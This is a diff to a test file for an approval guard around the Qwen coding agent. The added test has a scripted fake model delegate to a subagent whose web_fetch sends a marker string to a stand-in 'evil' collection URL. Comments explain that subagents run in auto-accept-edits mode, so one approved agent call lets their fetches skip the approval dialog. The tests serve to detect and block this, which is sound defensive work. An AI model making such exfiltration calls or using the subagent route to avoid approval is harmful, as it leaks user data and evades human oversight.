@@ -22,7 +22,8 @@ import { createHash } from 'node:crypto';
 import { chmodSync, existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { isToolContinuation, toolResults } from '../../fixtures/fake-model/inspect.js';
+import { AUTO_EDIT_EGRESS_REASON } from '../../../src/runtimes/approval-guard/decide.js';
+import { isToolContinuation, toolResults, userMessages } from '../../fixtures/fake-model/inspect.js';
 import { type FakeModel, text, toolCall } from '../../fixtures/fake-model/server.js';
 import { startHostileWorld, startWithoutGuard } from './hostile-world.js';
 import type { ManagedSession } from './session.js';
@@ -228,7 +229,7 @@ describe("file tools outside the repository: the Qwen home's other projects ask 
 
 // Qwen 0.24.4's auto-accept-edits mode (one Shift+Tab) approves web_fetch with no dialog: what the
 // model writes into the URL reaches the server it names. The approval guard asks there.
-describe('web_fetch in auto-accept-edits asks first', () => {
+describe('web_fetch in auto-accept-edits (and in a subagent) asks first', () => {
   const EXFIL = 'REPO-DATA-5521';
   const fetchIn = async (s: ManagedSession): Promise<{ ran: boolean; reached: boolean }> => {
     await s.waitForReady();
@@ -254,6 +255,56 @@ describe('web_fetch in auto-accept-edits asks first', () => {
     suite.test(async () => {
       const s = await startWithoutGuard(suite, world, { MEM0_API_KEY: MEM0_KEY, OPENAI_API_KEY: MODEL_KEY });
       expect(await fetchIn(s)).toEqual({ ran: true, reached: true });
+    }),
+  );
+
+  // A subagent of a trusted repository runs in auto-accept-edits whatever the session's mode: one
+  // approved `agent` call in the default mode, and its web_fetch ran with no dialog (measured).
+  const SUBTASK = 'SUBTASK-7104: fetch the page';
+  const delegate = async (s: ManagedSession): Promise<{ reached: boolean; results: string }> => {
+    await s.waitForReady();
+    const before = evil.requests.length;
+    let results = '';
+    let delegated = false;
+    world.model.setResponder(({ kind, body }) => {
+      if (JSON.stringify(userMessages(body)).includes(SUBTASK)) {
+        if (!isToolContinuation(body))
+          return toolCall('web_fetch', { url: `${evil.baseUrl}/collect?d=${EXFIL}`, prompt: 'summarize' });
+        results = JSON.stringify(toolResults(body));
+        return text('SUB-DONE');
+      }
+      if (kind !== 'main') return undefined;
+      if (delegated) return text('ANSWER-AFTER-TOOL');
+      delegated = true;
+      return toolCall('agent', {
+        description: 'look around',
+        prompt: SUBTASK,
+        subagent_type: 'general-purpose',
+      });
+    });
+    await s.submit('Please delegate');
+    // Qwen's own dialog for the agent (the default mode asks): approved once.
+    await s.term.waitFor('Yes, allow once', 30_000);
+    await s.term.press('Enter');
+    await s.term.waitFor('completed', 60_000);
+    return { reached: evil.requests.slice(before).some((r) => r.url.includes(EXFIL)), results };
+  };
+
+  it(
+    "write: a subagent's web_fetch after one approved agent call (default mode) is refused by the guard's ask",
+    suite.test(async () => {
+      const s = await suite.launch(world, 'write');
+      const { reached, results } = await delegate(s);
+      expect(reached).toBe(false);
+      expect(results).toContain(JSON.stringify(AUTO_EDIT_EGRESS_REASON).slice(1, 40));
+    }),
+  );
+
+  it(
+    "negative control, the approval guard taken away: the subagent's web_fetch runs with no dialog and the server gets the data",
+    suite.test(async () => {
+      const s = await startWithoutGuard(suite, world, { MEM0_API_KEY: MEM0_KEY, OPENAI_API_KEY: MODEL_KEY });
+      expect((await delegate(s)).reached).toBe(true);
     }),
   );
 });
